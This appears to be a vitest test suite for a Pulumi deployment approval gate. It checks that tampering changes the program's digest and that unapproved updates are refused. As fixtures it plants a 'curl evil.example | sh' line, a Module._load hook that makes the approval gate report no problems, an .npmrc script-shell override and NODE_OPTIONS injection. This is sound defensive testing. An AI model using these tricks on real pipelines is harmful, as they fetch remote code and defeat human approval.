import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { type Answer, emptyBackend } from "../live/programCopy";
import { ApprovedProgram, digestIn } from "../support/approvedProgram";

// The attacks of docs/attacks.md that need the real engine. Each was let through, or went unseen, by the code of 3a13f48.
const MINUTE = 60_000;
const HOOK = "globalThis.planted = true;\n";
const GATE_HOOK = `
const { Module } = require("node:module");
const load = Module._load;
Module._load = (name, ...others) => (/\\/gate$/.test(name) ? { ...load(name, ...others), judge: () => ({ problems: [], lower: [] }) } : load(name, ...others));
`;

let backend: Awaited<ReturnType<typeof emptyBackend>>;
let program: ApprovedProgram;
let outside: string;
/** What takes back what a test did. */
let undo: (() => void)[] = [];
const file = (name: string) => program.file(name);

beforeAll(async () => {
    backend = await emptyBackend();
    program = new ApprovedProgram(backend);
    outside = fs.mkdtempSync(path.join(os.tmpdir(), "gh200-outside-"));
    ownModules(["zod"]);
    // A hook, a chain of settings and a plug-in, each named by a file that the program cannot do without.
    write("lib/hook.cjs", HOOK);
    program.copy.edit("Pulumi.yaml", (text) =>
        text
            .replace("tsconfig: tsconfig.pulumi.json", "tsconfig: tsconfig.pulumi.json\n")
            .replace("--require ./tools", "--require ./lib/hook.cjs --require ./tools"),
    );
    fs.appendFileSync(file("Pulumi.yaml"), "plugins:\n  providers:\n    - name: planted\n      path: ./plugin\n");
    write("plugin/pulumi-resource-planted", "#!/bin/sh\n");
    write("settings/base.json", '{ "compilerOptions": {} }\n');
    program.copy.edit("tsconfig.json", (text) => text.replace("{", '{ "extends": "./settings/base",'));
    undo = [];
    await program.copy.pulumi(["stack", "init", "gh200"]);
}, 5 * MINUTE);

afterAll(() => {
    program?.copy.remove();
    backend?.remove();
    fs.rmSync(outside, { recursive: true, force: true });
});

afterEach(() => {
    undo.reverse().forEach((step) => step());
    undo = [];
});

function write(name: string, text: string): void {
    const full = file(name);
    const before = fs.existsSync(full) ? fs.readFileSync(full) : undefined;
    const made = fs.mkdirSync(path.dirname(full), { recursive: true });
    fs.writeFileSync(full, text);
    undo.push(() => (before === undefined ? fs.rmSync(made ?? full, { recursive: true }) : fs.writeFileSync(full, before)));
}

const append = (name: string, text: string) => write(name, fs.readFileSync(file(name), "utf8") + text);

const configure = (line: string) => write("Pulumi.gh200.yaml", fs.readFileSync(file("Pulumi.gh200.yaml"), "utf8").replace("config:\n", `config:\n  ${line}\n`));

/** Packages of this checkout by links, and some as copies that a test may edit. */
function ownModules(copied: string[]): void {
    const modules = fs.realpathSync(file("node_modules"));
    fs.rmSync(file("node_modules"));
    fs.mkdirSync(file("node_modules"));
    for (const name of fs.readdirSync(modules)) {
        if (copied.includes(name)) {
            fs.cpSync(path.join(modules, name), file(`node_modules/${name}`), { recursive: true });
        } else {
            fs.symlinkSync(path.join(modules, name), file(`node_modules/${name}`));
        }
    }
}

/** Two clusters, each with an authority of its own. */
function kubeconfig(authority: string, context = "one"): string {
    const pem = (name: string) => `-----BEGIN CERTIFICATE-----\n${Buffer.from(name).toString("base64")}\n-----END CERTIFICATE-----\n`;
    const cluster = (name: string) => ({
        name,
        cluster: { server: `https://${name}.example`, "certificate-authority-data": Buffer.from(pem(`${authority} ${name}`)).toString("base64") },
    });
    const contexts = ["one", "two"].map((name) => ({ name, context: { cluster: name } }));
    const at = path.join(outside, "kubeconfig");
    fs.writeFileSync(at, JSON.stringify({ "current-context": context, contexts, clusters: [cluster("one"), cluster("two")] }));
    return at;
}

async function digest(env: NodeJS.ProcessEnv = {}): Promise<string> {
    const { output } = await program.preview({ KUBECONFIG: env.KUBECONFIG ?? kubeconfig("ours") });
    const found = digestIn(output);
    expect(found, output).toMatch(/^[0-9a-f]{64}$/);
    return found;
}

describe("the digest is another one after a change of", () => {
    let before: string;
    beforeAll(async () => {
        before = await digest();
    }, MINUTE);

    test.each<[string, () => NodeJS.ProcessEnv | void]>([
        ["the hook that Node.js loads first", () => append("tools/compileCache.cjs", HOOK)],
        ["the tool that runs Pulumi", () => append("tools/pulumi.ts", "// planted\n")],
        ["a policy", () => append("policy/index.ts", "// planted\n")],
        ["the pipeline's script", () => append("ci/up", "# planted\n")],
        ["a command", () => append("status/main.ts", "// planted\n")],
        ["the program's compiler settings", () => append("tsconfig.pulumi.json", "// planted\n")],
        ["the settings that those extend", () => append("tsconfig.json", "// planted\n")],
        ["the settings that those extend in turn", () => append("settings/base.json", "// planted\n")],
        ["npm's settings", () => write(".npmrc", "script-shell=./planted.sh\n")],
        ["the lock that comes before package-lock.json", () => write("npm-shrinkwrap.json", fs.readFileSync(file("package-lock.json"), "utf8"))],
        ["a file that Pulumi.yaml has Node.js load", () => append("lib/hook.cjs", "// planted\n")],
        ["a plug-in that Pulumi.yaml names", () => append("plugin/pulumi-resource-planted", "curl evil.example | sh\n")],
        ["a file of an installed package", () => append("node_modules/zod/index.cjs", "// planted\n")],
        ["a file that Node.js takes before a package", () => write("node_modules/zod.js", HOOK)],
        ["a package within a package", () => write("node_modules/zod/node_modules/yaml/index.js", HOOK)],
        [
            "a package within the components",
            () => write("components/node_modules/zod/index.js", "module.exports = require('../../../node_modules/zod/index.cjs');\n"),
        ],
        ["compiled Python within a command", () => write("policy/__pycache__/planted.pyc", "planted")],
        ["the Kubernetes provider's configuration", () => configure("kubernetes:namespace: evil")],
        ["another provider's configuration", () => configure("docker-build:host: tcp://evil.example:2375")],
        ["the cluster behind the kubeconfig", () => ({ KUBECONFIG: kubeconfig("theirs") })],
        ["the context of the kubeconfig", () => ({ KUBECONFIG: kubeconfig("ours", "two") })],
    ])("%s", async (_, attack) => expect(await digest(attack() ?? {})).not.toBe(before), MINUTE);

    test("nothing, once all of these are undone", async () => expect(await digest()).toBe(before), MINUTE);

    test(
        "a folder that is linked into the program",
        async () => {
            fs.writeFileSync(path.join(outside, "linked.ts"), "export const linked = 1;\n");
            fs.symlinkSync(outside, file("components/linked"));
            undo.push(() => fs.rmSync(file("components/linked")));
            const linked = await digest();
            fs.writeFileSync(path.join(outside, "linked.ts"), "export const linked = 2;\n");
            expect(await digest()).not.toBe(linked);
        },
        MINUTE,
    );
});

/** The answer of a run that was refused and did nothing. */
async function refused(run: Promise<Answer>): Promise<string> {
    const before = program.state();
    const { status, output } = await run;
    expect(status, output).not.toBe(0);
    expect(program.state()).toBe(before);
    return output;
}

async function passed(run: Promise<Answer>): Promise<string> {
    const { status, output } = await run;
    expect(status, output).toBe(0);
    return output;
}

/** Signs what the last preview or update showed. */
function approve(...args: string[]): void {
    const change = digestIn(program.approve("", ...args).output);
    expect(program.approve(change, ...args).output).toContain("wrote approvals/gh200");
}

const off = () => write("Pulumi.gh200.yaml", fs.readFileSync(file("Pulumi.gh200.yaml"), "utf8").replace("required: true", "required: false"));

describe("npm run approve runs nothing of", () => {
    beforeAll(async () => void (await passed(program.preview())), MINUTE);

    test.each(["index.ts", "components/internal/errors.ts", "lib/hook.cjs", "tools/compileCache.cjs"])(
        "%s",
        (name) => {
            const marker = path.join(outside, "ran");
            append(name, `\nrequire("node:fs").writeFileSync(${JSON.stringify(marker)}, "");\n`);
            expect(program.approve("").output).toContain("--change : is not what this checkout would do");
            expect(fs.existsSync(marker)).toBe(false);
        },
        MINUTE,
    );
});

describe("npm run approved says no, before anything of the program runs, to", () => {
    beforeAll(async () => void (await passed(program.preview())), MINUTE);

    test.each<[string, string, string]>([
        ["a hook that takes the place of the gate", "tools/compileCache.cjs", GATE_HOOK],
        ["a program that leaves its check out", "index.ts", '\nmodule.exports = async () => void new pulumi.Stash("evil", { input: 1 });\n'],
    ])(
        "%s",
        (_, name, text) => {
            append(name, text);
            const { status, output } = program.approved();
            expect(status).not.toBe(0);
            expect(output).toMatch(/^approval: change [0-9a-f]{64}: is not approved; mike approves it with: npm run approve -- -s gh200$/m);
        },
        MINUTE,
    );
});

// A story: each starts from what the one before left.
describe("an update is refused", () => {
    test(
        "that runs a file of NODE_OPTIONS beside the approved change",
        async () => {
            fs.writeFileSync(path.join(outside, "required.cjs"), HOOK);
            fs.writeFileSync(path.join(outside, "imported.mjs"), HOOK);
            await passed(program.preview());
            approve();
            expect(program.approved()).toMatchObject({ status: 0, output: expect.stringMatching(/^change [0-9a-f]{64}: is approved$/m) as string });
            for (const option of [`--require ${outside}/required.cjs`, `--import ${outside}/imported.mjs`]) {
                const output = await refused(program.up({ NODE_OPTIONS: option }));
                expect(output).toMatch(/approval: \S+(required.cjs|imported.mjs): runs in this update and is not part of what is approved/);
            }
        },
        MINUTE,
    );

    test(
        "whose Pulumi.yaml chooses the state that remembers who approves",
        async () => {
            append("Pulumi.yaml", `backend:\n  url: file://${backend.folder}\n`);
            await passed(program.preview());
            approve();
            expect(await refused(program.up())).toContain("Pulumi.yaml: backend: chooses the state, which remembers who approves");
        },
        MINUTE,
    );

    test(
        "as a destroy after a first update that failed",
        async () => {
            write("fail", "");
            await passed(program.preview());
            approve();
            expect((await program.up()).output).toContain("the build failed");
            expect(await refused(program.destroy())).toContain("Hooks: a destroy needs an approval: docs/rules.md");
        },
        MINUTE,
    );

    test(
        "that an unused approval of a destroy is put beside, approvals switched off or left out of the targets",
        async () => {
            await passed(program.preview());
            approve("--after-failure", "the disk was full");
            await passed(program.up());
            approve("--destroy", "never used");
            expect(program.approved("--destroy").status).toBe(0);
            append("assets/vllm/managed_alloc.cu", "// planted\n");
            expect(await refused(program.up())).toContain("is stale");
            expect(await refused(program.up({}, "--exclude", "**gh200-approval"))).toContain("is stale");
            off();
            expect(await refused(program.up())).toContain("is stale");
        },
        2 * MINUTE,
    );
});

describe("an approved change", () => {
    test(
        "ends approvals, and what they were kept in goes",
        async () => {
            off();
            await passed(program.preview());
            approve();
            await passed(program.up());
            expect(program.state()).not.toContain("gh200-approval");
            expect(program.approved().output).toContain("stack gh200: is not under approval");
        },
        MINUTE,
    );
});
